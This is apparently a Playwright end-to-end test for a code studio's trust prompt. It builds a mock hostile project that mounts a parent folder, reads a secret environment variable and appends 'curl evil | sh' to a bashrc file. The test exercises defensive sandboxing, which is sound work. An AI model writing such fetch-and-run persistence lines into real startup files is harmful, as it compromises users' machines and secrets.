import { expect, test } from '@playwright/test';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanup, repo, startStudio, tempUserDirs, type StudioServer, type UserDirs } from './studio-server';

// A downloaded project opened in browser mode: it mounts the folder two levels up read-write and
// inherits a secret variable. The studio asks before anything builds or runs, and remembers the answer.
const SECRET = 'e2e-fake-secret-7d21';
const BASHRC = '# the user\'s own\n';
let outer: string;
let project: string;
let user: UserDirs;
let studio: StudioServer | null = null;

test.beforeEach(() => {
  outer = realpathSync(mkdtempSync(join(tmpdir(), 'studio-e2e-trust-')));
  project = join(outer, 'downloads/hostile');
  cpSync(join(repo, 'samples/hello-c'), project, { recursive: true, filter: (src) => !src.includes('/build') });
  writeFileSync(join(outer, 'bashrc'), BASHRC);
  const config = JSON.parse(readFileSync(join(project, 'studio.json'), 'utf8'));
  config.policy = { mounts: [{ host: '../..', guest: '/up', mode: 'rw' }], env: [{ name: 'STUDIO_E2E_SECRET' }] };
  writeFileSync(join(project, 'studio.json'), JSON.stringify(config));
  writeFileSync(
    join(project, 'src/main.c'),
    '#include <stdio.h>\n#include <stdlib.h>\nint main(void) {\n  const char* s = getenv("STUDIO_E2E_SECRET");\n  printf("secret=%s\\n", s ? s : "-");\n' +
      '  FILE* b = fopen("/up/bashrc", "a"); if (b) { fputs("curl evil | sh\\n", b); fclose(b); puts("appended"); }\n  return 0;\n}\n',
  );
  user = tempUserDirs();
  process.env.STUDIO_E2E_SECRET = SECRET; // inherited by the studio server started below
});
test.afterEach(async () => {
  await studio?.stop();
  delete process.env.STUDIO_E2E_SECRET;
  cleanup(outer);
  cleanup(join(user.configDir, '..'));
});

test('an untrusted project: asked with the list, "Don\'t trust" refuses Run with the reason, Trust lets it run, the answer is remembered', async ({ page }) => {
  studio = await startStudio(project, user);
  await page.goto(studio.url);
  const prompt = page.getByTestId('trust-prompt');
  await expect(prompt).toBeVisible();
  await expect(prompt.getByTestId('trust-grants').locator('li')).toHaveText([
    `read, change, create and delete files in ${outer} (studio.json mounts "../.." at /up)`,
    'read your environment variable STUDIO_E2E_SECRET (its value on this machine is given to the component)',
  ]);
  await page.screenshot({ path: test.info().outputPath('trust-prompt.png') });

  await prompt.getByTestId('trust-refuse').click();
  await expect(prompt).toBeHidden();
  await expect(page.getByTestId('trust-bar')).toContainText('you did not trust this project');
  await page.getByTestId('run-both-button').click();
  for (const engine of ['node', 'browser']) {
    await expect(page.getByTestId(`output-${engine}`)).toContainText('Run refused: this project is not trusted', { timeout: 30_000 });
    await expect(page.getByTestId(`output-${engine}`)).toContainText('read your environment variable STUDIO_E2E_SECRET');
  }
  await page.getByTestId('build-button').click();
  await expect(page.getByTestId('problems-panel')).toContainText('Build refused: this project is not trusted');
  await page.screenshot({ path: test.info().outputPath('trust-refused.png') });
  // Checked on the host: nothing built, nothing written outside, the secret never shown.
  expect(existsSync(join(project, 'build'))).toBe(false);
  expect(readFileSync(join(outer, 'bashrc'), 'utf8')).toBe(BASHRC);
  await expect(page.locator('body')).not.toContainText(SECRET);

  // Reload: the refusal is remembered and shown, not asked again; "Review trust…" asks again.
  await page.reload();
  await expect(page.getByTestId('trust-bar')).toContainText('you did not trust this project');
  await expect(prompt).toBeHidden();
  await page.getByTestId('trust-review').click();
  await prompt.getByTestId('trust-accept').click();
  await expect(page.getByTestId('trust-bar')).toBeHidden();
  await page.getByTestId('run-node-button').click();
  await expect(page.getByTestId('output-node')).toContainText(`secret=${SECRET}\nappended`, { timeout: 90_000 });
  expect(readFileSync(join(outer, 'bashrc'), 'utf8')).toBe(BASHRC + 'curl evil | sh\n');

  // Kept in the user's config folder, not in the project: a restarted studio does not ask again.
  expect(readFileSync(join(user.configDir, 'trust.json'), 'utf8')).toContain(project);
  expect(readdirSync(project).sort()).not.toContain('trust.json');
  await studio.stop();
  studio = await startStudio(project, user);
  await page.goto(studio.url);
  await expect(page.getByTestId('file-tree')).toBeVisible();
  await expect(prompt).toBeHidden();
  await expect(page.getByTestId('trust-bar')).toBeHidden();

  // studio.json edited on disk to ask for one more thing: asked again, for that one only.
  const config = JSON.parse(readFileSync(join(project, 'studio.json'), 'utf8'));
  config.policy.env.push({ name: 'GITHUB_TOKEN' });
  writeFileSync(join(project, 'studio.json'), JSON.stringify(config));
  await expect(prompt).toBeVisible();
  await expect(prompt.getByTestId('trust-grants').locator('li')).toHaveText([/GITHUB_TOKEN/]);
  await expect(prompt).toContainText('You trusted 2 other grants of this project before.');
  await page.screenshot({ path: test.info().outputPath('trust-new-grant.png') });
});
